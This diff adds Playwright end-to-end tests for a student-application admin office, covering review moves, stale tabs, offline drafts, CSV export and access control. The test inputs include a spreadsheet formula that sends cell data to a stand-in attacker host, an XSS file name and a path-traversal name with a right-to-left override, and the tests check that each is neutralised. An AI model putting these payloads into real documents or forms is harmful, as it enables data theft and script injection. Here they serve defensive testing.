@@ -1,0 +1,256 @@
+import fs from 'node:fs/promises';
+import type { Page } from '@playwright/test';
+import sharp from 'sharp';
+import type { StaffApplication, SubmissionAnswer } from '../../src/contract/applications.ts';
+import { bearer, logIn, staffAccount, STAFF, verifiedAccount } from '../support/accounts-browser.ts';
+import { submitLogin } from '../support/account-forms.ts';
+import { pdf } from '../support/applications.ts';
+import { apply, counsellorMoves } from '../support/applications-browser.ts';
+import { both, expect, test } from '../support/browser.ts';
+import { expectUsable, openOffice } from '../support/office-browser.ts';
+import { mailSaying } from '../support/site-mail.ts';
+
+// Chromium drops the cross-fade between two pages when the second is slow to come, and calls that an error of the page.
+test.use({ expectedErrors: [/Transition was skipped/] });
+
+const FORMULA = '=HYPERLINK("https://evil.example?x="&A1,"click")';
+const TRANSCRIPT = pdf(20_000);
+/** A name that would be markup, and one that would read backwards and lie elsewhere. */
+const NAMES = { picture: '<img src=x onerror=alert(1)>.png', pdf: '../../transcript\u202Egpj.pdf' };
+/** As the API keeps them. */
+const KEPT = { picture: '_img src=x onerror=alert(1)_.png', pdf: 'transcriptgpj.pdf' };
+
+/** A student who has applied with a picture and a PDF. */
+async function newCase(page: Page) {
+  const member = await verifiedAccount(page.request);
+  const student = await logIn(page.request, member);
+  const picture = sharp({ create: { width: 640, height: 400, channels: 3, background: '#bd1439' } });
+  const answer = await apply(page.request, student, {
+    first_name: 'Asha',
+    last_name: FORMULA,
+    email: member.email,
+    contact: '+977 984-1112223',
+    preferred_course: 'Bachelor of Nursing',
+    'passport_documents[0][file]': {
+      name: NAMES.picture,
+      mimeType: 'image/png',
+      buffer: await picture.png().toBuffer(),
+    },
+    'academic_documents[0][file]': { name: NAMES.pdf, mimeType: 'application/pdf', buffer: TRANSCRIPT },
+  });
+  return { ...answer, member, student };
+}
+
+const screenOf = ({ id }: SubmissionAnswer) => `/admin/applications/${id}`;
+const question = (page: Page) => page.getByRole('dialog');
+const press = (page: Page, name: string) => page.getByRole('button', { name, exact: true }).click();
+const pressInQuestion = (page: Page, name: string) =>
+  question(page).getByRole('button', { name, exact: true }).click();
+
+test(
+  'a case is found, its documents are seen, it is moved, and the student hears of it',
+  both,
+  async ({ page }) => {
+    const made = await newCase(page);
+    const shown: string[] = [];
+    page.on('dialog', (dialog) => {
+      shown.push(dialog.message());
+      void dialog.dismiss();
+    });
+
+    await openOffice(page, '/admin/applications');
+    await press(page, 'State: All states');
+    await question(page).getByRole('checkbox', { name: 'Our turn' }).check();
+    await question(page).getByRole('checkbox', { name: 'Visa refused' }).uncheck();
+    await expectUsable(page, 'states to choose from');
+    await pressInQuestion(page, 'Show');
+    await expect(page).toHaveURL(/submitted.*in_review/);
+    await page.getByRole('searchbox').fill(made.reference.toLowerCase());
+    await expect(page.getByText('1 application', { exact: true })).toBeVisible();
+    const row = page.getByRole('row', { name: made.reference });
+    await expect(row).toContainText(/Asha =HYPERLINK.*Bachelor of Nursing.*Submitted/);
+    await expect(page.getByRole('table')).toHaveAttribute('aria-busy', 'false');
+    await expectUsable(page, 'list');
+    await page.getByRole('link', { name: made.reference }).click();
+    await expect(page.getByRole('heading', { level: 1, name: made.reference })).toBeVisible();
+    await expect(page.getByRole('link', { name: '+977 984-1112223' })).toHaveAttribute(
+      'href',
+      'tel:+9779841112223',
+    );
+    await expect(page.getByText('Each opening is recorded with your name and the time.')).toBeVisible();
+    await expectUsable(page, 'case');
+
+    // The picture is painted: its points are there, and no address that could be opened as a page.
+    await page.getByRole('button', { name: `Look at ${KEPT.picture}` }).click();
+    const painted = page.getByRole('img', { name: KEPT.picture });
+    await expect(painted).toBeVisible();
+    const point = await painted.evaluate((canvas: HTMLCanvasElement) => [
+      canvas.width,
+      ...canvas.getContext('2d')!.getImageData(320, 200, 1, 1).data,
+    ]);
+    expect(point).toEqual([640, 0xbd, 0x14, 0x39, 255]);
+    await expectUsable(page, 'picture');
+    await pressInQuestion(page, 'Close');
+
+    const arriving = page.waitForEvent('download');
+    await page.getByRole('button', { name: `Download ${KEPT.pdf}` }).click();
+    const arrived = await arriving;
+    expect(arrived.suggestedFilename()).toBe(KEPT.pdf);
+    expect(TRANSCRIPT.equals(await fs.readFile(await arrived.path()))).toBe(true);
+    expect(shown).toEqual([]);
+    // Both openings stand in what the student may ask for.
+    const exported = await page.request.get('/api/user/export/', { headers: bearer(made.student) });
+    const { applications } = (await exported.json()) as {
+      applications: { documents_opened_by_staff_at: string[] }[];
+    };
+    expect(applications[0]?.documents_opened_by_staff_at).toHaveLength(2);
+
+    await press(page, 'Request documents');
+    await pressInQuestion(page, 'Request documents');
+    await expect(question(page)).toContainText('Write what is missing');
+    await expectUsable(page, 'question');
+    await question(page).getByRole('textbox').fill('Please add:\n- the last page of your passport');
+    await pressInQuestion(page, 'Request documents');
+    await expect(question(page)).toHaveCount(0);
+    await expect(
+      page.getByText(`${made.reference}: Documents requested. The student gets a mail.`),
+    ).toBeVisible();
+    const history = page.getByRole('region', { name: 'History' }).getByRole('listitem');
+    await expect(history.first()).toContainText(`Documents requestedby ${STAFF.email}`);
+    await expect(history.first()).toContainText('- the last page of your passport');
+    const { text } = await mailSaying(made.member.email, 'the last page of your passport');
+    expect(text).toContain('We need something more from you');
+
+    await page.getByRole('textbox', { name: 'Message' }).fill('Call us if you need help.');
+    await press(page, 'Send the message');
+    await expect(page.getByRole('textbox', { name: 'Message' })).toHaveValue('');
+    await mailSaying(made.member.email, 'Call us if you need help.');
+  },
+);
+
+test.describe('a stale tab', () => {
+  test.use({ expectedErrors: [/Transition was skipped|status of 409/] });
+
+  test('moves nothing and is told so kindly; what was typed becomes a message', async ({ page }) => {
+    const made = await newCase(page);
+    const colleague = await staffAccount(page.request);
+    await openOffice(page, screenOf(made), colleague);
+    await press(page, 'Begin review');
+    await question(page).getByRole('textbox').fill('We look at it this week.');
+    await counsellorMoves(page.request, made.id, 'begin_review');
+    await test.step('the move', async () => {
+      const answered = page.waitForResponse(/\/move\/$/);
+      await pressInQuestion(page, 'Begin review');
+      expect((await answered).status()).toBe(409);
+    });
+    await expect(question(page)).toContainText('The case has moved on meanwhile, so this was not done');
+    await expect(question(page)).toContainText(`It is "In review" now: Review begun, by ${STAFF.email}`);
+    await pressInQuestion(page, 'Keep the text as a message');
+    await expect(page.getByRole('textbox', { name: 'Message' })).toHaveValue('We look at it this week.');
+    await expect(page.getByRole('textbox', { name: 'Message' })).toBeFocused();
+    await expect(page.getByRole('button', { name: 'Send to the university' })).toBeVisible();
+    const headers = bearer(await logIn(page.request, STAFF));
+    const seen = await page.request.get(`/api/staff/applications/${made.id}/`, { headers });
+    const { history } = (await seen.json()) as StaffApplication;
+    expect(history.map(({ event }) => event)).toEqual(['submit', 'begin_review']);
+  });
+});
+
+test.describe('a move that fails', () => {
+  test.use({ expectedErrors: [/Transition was skipped|status of 40[19]|ERR_INTERNET_DISCONNECTED/] });
+
+  test('keeps what was typed: without a connection, and when the session is over', async ({
+    page,
+    context,
+  }) => {
+    const made = await newCase(page);
+    const session = await openOffice(page, screenOf(made));
+    await press(page, 'Withdraw the application');
+    await expect(question(page)).toContainText('Only when the student wants it.');
+    await question(page).getByRole('textbox').fill('As we said on the phone.');
+    await context.setOffline(true);
+    await pressInQuestion(page, 'Withdraw the application');
+    await expect(question(page).getByText(/^No connection to the server/)).toBeVisible();
+    await expect(question(page).getByRole('textbox')).toHaveValue('As we said on the phone.');
+    await context.setOffline(false);
+
+    await page.request.post('/api/user/logout/', { data: { refresh: session.token.refresh } });
+    await pressInQuestion(page, 'Withdraw the application');
+    await expect(page).toHaveURL(/\/login\?next=/);
+    await submitLogin(page, STAFF);
+    // The same question is open again, with the same words.
+    await expect(question(page).getByRole('textbox')).toHaveValue('As we said on the phone.');
+    await pressInQuestion(page, 'Withdraw the application');
+    await expect(page.getByRole('main').getByText('Withdrawn', { exact: true })).toBeVisible();
+    await mailSaying(made.member.email, 'As we said on the phone.');
+    expect(await page.evaluate(() => Object.keys(sessionStorage))).not.toContainEqual(
+      expect.stringContaining('office-draft'),
+    );
+  });
+});
+
+test('a table of what is found is downloaded, and holds no formula', async ({ page }) => {
+  const made = await newCase(page);
+  const other = await newCase(page);
+  await openOffice(page, '/admin/applications');
+  await page.getByRole('searchbox').fill(made.reference);
+  await expect(page.getByText('1 application', { exact: true })).toBeVisible();
+  const arriving = page.waitForEvent('download');
+  await press(page, 'Download as a table');
+  const arrived = await arriving;
+  expect(arrived.suggestedFilename()).toMatch(/^applications-\d{4}-\d\d-\d\d\.csv$/);
+  const text = await fs.readFile(await arrived.path(), 'utf8');
+  expect(text).toContain(made.reference);
+  expect(text).not.toContain(other.reference);
+  expect(text).toContain(`"'=HYPERLINK(`);
+});
+
+test('whoever is no staff gets nothing of it', async ({ page, request }) => {
+  const made = await newCase(page);
+  const stranger = bearer(await logIn(request, await verifiedAccount(request)));
+  const headers = bearer(await logIn(request, STAFF));
+  const seen = await request.get(`/api/staff/applications/${made.id}/`, { headers });
+  const [document] = ((await seen.json()) as StaffApplication).documents;
+  const paths = ['', 'export/', `${made.id}/`, `${made.id}/documents/${document!.id}/`];
+  for (const path of paths.map((each) => `/api/staff/applications/${each}`)) {
+    expect((await request.get(path)).status(), path).toBe(401);
+    for (const user of [stranger, bearer(made.student)]) {
+      expect((await request.get(path, { headers: user })).status(), path).toBe(403);
+    }
+  }
+  for (const [verb, data] of [
+    ['move', { event: 'begin_review' }],
+    ['note', { note: 'x' }],
+  ] as const) {
+    const path = `/api/staff/applications/${made.id}/${verb}/`;
+    expect((await request.post(path, { data, headers: bearer(made.student) })).status(), path).toBe(403);
+  }
+});
+
+test('a case is worked with the keyboard alone', async ({ page }) => {
+  const made = await newCase(page);
+  await openOffice(page, '/admin/applications');
+  await expect(page.getByRole('link', { name: made.reference })).toBeVisible();
+  await page.keyboard.press('Control+k');
+  await page.keyboard.type(made.reference);
+  await expect(page.getByText('1 application', { exact: true })).toBeVisible();
+  await page.getByRole('link', { name: made.reference }).focus();
+  await page.keyboard.press('Enter');
+  await expect(page.getByRole('heading', { level: 1, name: made.reference })).toBeFocused();
+  await page.keyboard.press('Tab');
+  await expect(page.getByRole('button', { name: 'Begin review' })).toBeFocused();
+  await page.keyboard.press('Enter');
+  await expect(question(page)).toHaveCSS('opacity', '1');
+  await page.keyboard.press('Tab');
+  await expect(question(page).getByRole('textbox')).toBeFocused();
+  await page.keyboard.press('Escape');
+  await expect(question(page)).toHaveCount(0);
+  await expect(page.getByRole('button', { name: 'Begin review' })).toBeFocused();
+  await page.keyboard.press('Enter');
+  await page.keyboard.press('Tab');
+  await page.keyboard.type('Your documents are fine.');
+  await page.keyboard.press('Tab');
+  await page.keyboard.press('Tab');
+  await page.keyboard.press('Enter');
+  await expect(page.getByRole('main').getByText('In review', { exact: true })).toBeVisible();
+});
